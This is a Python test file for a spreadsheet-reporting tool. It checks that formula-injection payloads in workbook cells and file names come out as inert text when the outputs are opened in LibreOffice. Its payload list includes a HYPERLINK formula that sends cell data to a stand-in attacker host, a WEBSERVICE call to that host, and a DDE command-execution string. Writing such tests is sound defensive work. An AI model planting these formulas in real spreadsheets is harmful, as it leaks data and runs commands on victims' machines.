"""Formula injection: text from workbooks and file names never becomes a live formula in an .xlsx we write.

Checked the way a victim would meet it: the outputs opened by LibreOffice (headless), every sheet
exported to CSV, and no payload evaluated.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from kinerja.spreadsheet import FORMULA_STARTS, neutralize

SCRIPT = str(Path(sys.executable).parent / "kinerja")
PAYLOADS = [
    '=HYPERLINK("http://penyerang.invalid/?d="&A1,"klik di sini")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://penyerang.invalid/")',
    "+2+3",
    "-4+5",
    "@SUM(6,7)",
    "\t=8+9",
    "\r=10+11",
]


def test_the_rule():
    for text in PAYLOADS:
        assert neutralize(text) == "'" + text
    assert neutralize("Tidak ada kendala") == "Tidak ada kendala" and neutralize(12.5) == 12.5
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def _poison(source: Path, target: Path) -> None:
    """Put the payloads as TEXT cells into the Indikator and Kendala columns of a real workbook."""
    from openpyxl import load_workbook

    book = load_workbook(source)
    sheet = book["Rencana Aksi"]
    for index, text in enumerate(PAYLOADS):
        cell = sheet[f"{'AG' if index % 2 else 'AH'}{8 + index // 2}"]  # Kendala / Tindak Lanjut of the first rows
        cell.value = text
        cell.data_type = "s"  # a string in the file, as a spreadsheet program stores typed text
    book.save(target)


def _sheets_as_csv(workbook: Path, folder: Path, profile: Path) -> list[str]:
    """All sheets of ``workbook`` as LibreOffice computes them, exported to CSV (one file per sheet)."""
    office = shutil.which("libreoffice") or shutil.which("soffice")
    assert office, "LibreOffice is installed by scripts/install-system-deps.sh"
    folder.mkdir()
    subprocess.run([office, "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to",
                    'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
                    "--outdir", str(folder), str(workbook)], check=True, capture_output=True, timeout=240)
    cells: list[str] = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells.extend(cell for row in csv.reader(handle) for cell in row)
    assert cells, f"LibreOffice exported nothing from {workbook}"
    return cells


@pytest.mark.slow
def test_outputs_opened_in_libreoffice_evaluate_no_payload(sample_year, tmp_path):
    _raw, workbooks = sample_year
    source = next(p for p in workbooks if "triwulan-1" in str(p) and "irban-1" in p.name)
    folder = tmp_path / "masuk"
    folder.mkdir()
    poisoned = folder / "=2+3.xlsx"  # a file name is text in the outputs, too
    _poison(source, poisoned)
    capaian = tmp_path / "capaian.xlsx"
    from kinerja.paths import SAMPLE_CONFIG

    done = subprocess.run([SCRIPT, "--konfigurasi", str(SAMPLE_CONFIG), "capaian", poisoned.name, "--tahun", "2025", "--triwulan", "1", "--format", "xlsx",
                           "--keluaran", str(capaian)], capture_output=True, text=True, timeout=120, cwd=folder)
    assert done.returncode == 0, done.stderr
    subprocess.run([SCRIPT, "--konfigurasi", str(SAMPLE_CONFIG), "validasi", str(poisoned), "--tahun", "2025", "--triwulan", "1", "--tandai",
                    str(tmp_path / "bertanda")], capture_output=True, text=True, timeout=120)
    [annotated] = (tmp_path / "bertanda").glob("*.xlsx")
    for output, name in ((capaian, "capaian"), (annotated, "bertanda")):
        cells = set(_sheets_as_csv(output, tmp_path / f"csv-{name}", tmp_path / "lo"))
        # an evaluated formula shows its result, not its text: every payload is still there as text
        for text in PAYLOADS:  # (the capaian table has the reader's text: a leading tab or CR stripped)
            assert "'" + text in cells or "'" + text.strip() in cells, (name, text)
        assert "klik di sini" not in cells and not any(c.startswith(("#NAME", "Err:", "#VALUE")) for c in cells), name
        if name == "capaian":  # the file name (given relative, as typed) is a column there, shown as text
            assert "'=2+3.xlsx" in cells, [c for c in cells if "2+3" in c]
